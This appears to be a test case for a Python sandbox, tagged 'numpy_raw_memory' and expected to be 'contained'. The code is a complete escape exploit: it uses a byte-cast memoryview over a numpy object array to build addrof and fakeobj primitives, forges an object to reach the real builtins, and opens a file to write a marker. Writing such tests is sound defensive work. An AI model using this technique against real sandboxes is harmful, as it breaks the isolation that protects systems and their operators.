# class: numpy_raw_memory
# expect: contained
# attack: a byte-cast memoryview (.data.cast('B')) over an object array reads object pointers and writes a chosen one back (addrof/fakeobj), then reaches the real builtins and opens MARK
apple = get_object_pose("apple")
print("apple at", apple.position)

slots = np.zeros(4).astype("O")
raw = slots.data.cast("B")
keep = [slots, raw]


def address_of(thing):
    slots[0] = thing
    return int.from_bytes(raw[0:8], "little")


def object_at(address):
    raw[8:16] = address.to_bytes(8, "little")
    found = slots[1]
    raw[8:16] = (0).to_bytes(8, "little")
    return found


def pointer_field(thing, offset):
    text = ""
    for value in (1 << 40, address_of(list), 1, address_of(thing) + offset, 1):
        text += "".join(chr((value >> (8 * k)) & 255) for k in range(8))
    fake = text.encode("latin-1")
    keep.append(fake)
    return object_at(address_of(fake) + 32)[0]


real = pointer_field(Pose.copy, 24)
if isinstance(real, dict) and "open" in real:
    handle = real["open"]("MARK", "w")
    handle.write("written by a program")
    handle.close()
    print("wrote MARK")
